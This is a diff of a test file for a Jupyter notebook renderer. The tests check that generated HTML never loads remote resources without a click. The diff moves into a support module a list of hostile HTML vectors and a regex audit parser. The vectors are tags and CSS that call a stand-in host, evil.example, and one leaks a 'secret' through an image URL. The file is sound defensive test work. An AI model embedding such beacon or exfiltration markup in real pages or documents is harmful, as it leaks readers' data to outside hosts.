@@ -2,7 +2,7 @@
 vector, Markdown (`markdown_html`), the live widgets, the saved `text/html` and a real
 `jupyter nbconvert --to html` of a notebook holding a hostile transcript.
 
-Each check audits the produced HTML with an independent parser (`loading_urls` below): every
+Each check audits the produced HTML with an independent parser (`support_no_fetch.audit`): every
 attribute or CSS that would make a browser load something without a click must be absent,
 the remote resource must be a placeholder naming its host with a click-to-open link, and a
 `data:` PNG must still be an inline <img>.
@@ -11,18 +11,23 @@ the remote resource must be a placeholder naming its host with a click-to-open l
 from __future__ import annotations
 
 import asyncio
-import re
 import subprocess
 import sys
-from html.parser import HTMLParser
 
 import nbformat
 import pytest
-from support_no_fetch import DATA_PNG, hostile_bundle, hostile_markdown, hostile_messages
+from support_no_fetch import (
+    DATA_PNG,
+    audit,
+    hostile_bundle,
+    hostile_markdown,
+    hostile_messages,
+    raw_vectors,
+)
 
 from penguin_jupyter.notebook.live_view import LiveView
 from penguin_jupyter.notebook.markdown_html import markdown_html
-from penguin_jupyter.notebook.no_fetch_html import image_html, is_inline_image, placeholder_html, safe_html
+from penguin_jupyter.notebook.no_fetch_html import image_html, placeholder_html, safe_html
 from penguin_jupyter.notebook.transcript_bundle import transcript_mimebundle
 from penguin_jupyter.omni import partial_text
 
@@ -30,81 +35,7 @@ BASE = "http://evil.example:8123"
 HOST = "evil.example"
 
 
-class _Audit(HTMLParser):
-    """Collects what a browser would load from an HTML string without a click."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.loads: list[str] = []
-        self.inline_images: list[str] = []
-        self.links: list[str] = []
-        self._in_style = False
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self._in_style = tag == "style"
-        for name, value in attrs:
-            value = value or ""
-            if tag == "a" and name == "href":
-                self.links.append(value)
-            elif tag == "img" and name == "src" and is_inline_image(value):
-                self.inline_images.append(value)
-            elif name == "style" and re.search(r"url\(|@import|image-set", value, re.I):
-                self.loads.append(f"<{tag} style={value}>")
-            elif name in ("title", "alt", "class"):
-                continue
-            elif re.search(r"(https?:)?//|^/|\.(png|css|jpg)\b", value, re.I) or (
-                name in ("src", "srcset", "poster", "background", "data", "href", "xlink:href")
-            ):
-                self.loads.append(f"<{tag} {name}={value}>")
-        if tag in ("iframe", "object", "embed", "link", "video", "audio", "svg", "picture", "base", "meta"):
-            self.loads.append(f"<{tag}>")
-
-    def handle_data(self, data: str) -> None:
-        if self._in_style and re.search(r"url\(|@import", data, re.I):
-            self.loads.append(f"<style>{data[:80]}")
-
-    def handle_endtag(self, tag: str) -> None:
-        if tag == "style":
-            self._in_style = False
-
-
-def audit(markup: str) -> _Audit:
-    checker = _Audit()
-    checker.feed(markup)
-    checker.close()
-    return checker
-
-
-VECTORS = {
-    "img": f'<img src="{BASE}/a.png?d=secret">',
-    "img unquoted": f"<IMG SRC={BASE}/a.png>",
-    "img srcset": f'<img src="data:image/png;base64,AAAA" srcset="{BASE}/a.png 2x">',
-    "picture": f'<picture><source srcset="{BASE}/a.png 1x, {BASE}/b.png 2x"><img src="{BASE}/c.png"></picture>',
-    "video poster": f'<video poster="{BASE}/p.png" src="{BASE}/v.mp4"></video>',
-    "audio": f'<audio src="{BASE}/a.mp3"></audio>',
-    "svg href": f'<svg><image href="{BASE}/s.png"/></svg>',
-    "svg xlink:href": f'<svg><use xlink:href="{BASE}/s.svg#a"/></svg>',
-    "svg style": f"<svg><style>rect {{fill: url({BASE}/f.svg#g)}}</style></svg>",
-    "css url in style attr": f"<div style=\"background-image: url('{BASE}/bg.png')\">x</div>",
-    "css image-set": f"<span style=\"background: image-set('{BASE}/bg.png' 1x)\">x</span>",
-    "css @import in style element": f'<style>@import "{BASE}/x.css";</style>',
-    "css url in style element": f"<style>p {{background: url({BASE}/p.png)}}</style>",
-    "link stylesheet": f'<link rel="stylesheet" href="{BASE}/x.css">',
-    "link prefetch": f'<link rel="prefetch" href="{BASE}/x">',
-    "iframe": f'<iframe src="{BASE}/page"></iframe>',
-    "iframe srcdoc": f"<iframe srcdoc=\"<img src='{BASE}/x.png'>\"></iframe>",
-    "object": f'<object data="{BASE}/o.swf"></object>',
-    "embed": f'<embed src="{BASE}/e.swf">',
-    "table background": f'<table background="{BASE}/t.png"><tr><td background="{BASE}/u.png">c</td></tr></table>',
-    "body background": f'<body background="{BASE}/b.png">x</body>',
-    "input image": f'<input type="image" src="{BASE}/i.png">',
-    "meta refresh": f'<meta http-equiv="refresh" content="0; url={BASE}/r">',
-    "base": f'<base href="{BASE}/">',
-    "script": f'<script src="{BASE}/s.js"></script>',
-    "math": f'<math><mi href="{BASE}/m">x</mi></math>',
-    "anchor ping": f'<a href="{BASE}/ok" ping="{BASE}/ping">link</a>',
-    "unknown element": f'<x-widget src="{BASE}/x.png">text</x-widget>',
-}
+VECTORS = raw_vectors(BASE)
 
 
 @pytest.mark.parametrize("markup", VECTORS.values(), ids=VECTORS.keys())
